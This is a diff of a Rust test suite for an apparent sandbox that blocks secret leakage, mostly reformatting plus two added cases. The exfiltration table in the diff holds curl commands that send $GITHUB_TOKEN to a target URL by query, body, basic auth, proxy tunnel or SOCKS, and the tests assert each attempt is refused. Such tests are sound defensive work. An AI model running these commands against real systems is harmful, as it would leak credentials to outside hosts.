@@ -84,12 +84,7 @@ impl Server {
         Server::spawn(dir, name, ["-".as_ref(), "-".as_ref()], None)
     }
 
-    fn spawn(
-        dir: &Path,
-        name: &str,
-        tls: [&std::ffi::OsStr; 2],
-        files: Option<&Path>,
-    ) -> Server {
+    fn spawn(dir: &Path, name: &str, tls: [&std::ffi::OsStr; 2], files: Option<&Path>) -> Server {
         let log = dir.join(format!("{name}.log"));
         std::fs::write(&log, "").unwrap();
         let mut child = Command::new("python3")
@@ -496,6 +491,10 @@ const EXFILS: &[Exfil] = &[
             ("url", "curl -sS --max-time 10 -o /dev/null \"$U?t=$GITHUB_TOKEN\""),
             ("body", "curl -sS --max-time 10 -o /dev/null -d \"t=$GITHUB_TOKEN\" \"$U\""),
             ("basic", "curl -sS --max-time 10 -o /dev/null -u \"user:$GITHUB_TOKEN\" \"$U\""),
+            // The same request through a `CONNECT` tunnel and through
+            // SOCKS5 (direct in the control, where no proxy is set).
+            ("tunnel", "curl -sS --max-time 10 -o /dev/null -p -x \"$HTTP_PROXY\" -H \"X-T: $GITHUB_TOKEN\" \"$U\""),
+            ("socks", "curl -sS --max-time 10 -o /dev/null -x \"$ALL_PROXY\" -H \"X-T: $GITHUB_TOKEN\" \"$U\""),
         ],
     },
     Exfil {
@@ -565,7 +564,11 @@ const NODE_FETCH: &str = "const u = require(process.cwd() + '/node_modules/undic
 fn tool_absent(tool: &str, args: &[&str]) -> Option<String> {
     match Command::new(tool).args(args).output() {
         Ok(out) if out.status.success() => None,
-        Ok(out) => Some(format!("`{tool} {}` failed: {}", args.join(" "), out.status)),
+        Ok(out) => Some(format!(
+            "`{tool} {}` failed: {}",
+            args.join(" "),
+            out.status
+        )),
         Err(e) => Some(format!("no `{tool}`: {e}")),
     }
 }
@@ -663,7 +666,11 @@ fn granting(config: &str, dir: &Path) -> String {
         "  allow:\n    - path: {:?}\n      mode: ro\n",
         dir.display().to_string()
     );
-    config.replacen("sandbox:\n  enabled: true\n", &format!("sandbox:\n  enabled: true\n{allow}"), 1)
+    config.replacen(
+        "sandbox:\n  enabled: true\n",
+        &format!("sandbox:\n  enabled: true\n{allow}"),
+        1,
+    )
 }
 
 /// Makes `file`, if there, executable by everyone (after
@@ -711,7 +718,10 @@ fn every_client_sending_the_placeholder_elsewhere_is_refused() {
             let log = attacker.log();
             assert!(log.is_empty(), "{client} {user:?}: the attacker got: {log}");
             assert!(!log.contains("magus-secret-") && !log.contains(VALUE));
-            let refused = codes(&out.stderr).iter().filter(|c| *c == "MGS2013").count();
+            let refused = codes(&out.stderr)
+                .iter()
+                .filter(|c| *c == "MGS2013")
+                .count();
             assert_eq!(
                 refused,
                 exfil.attempts.len(),
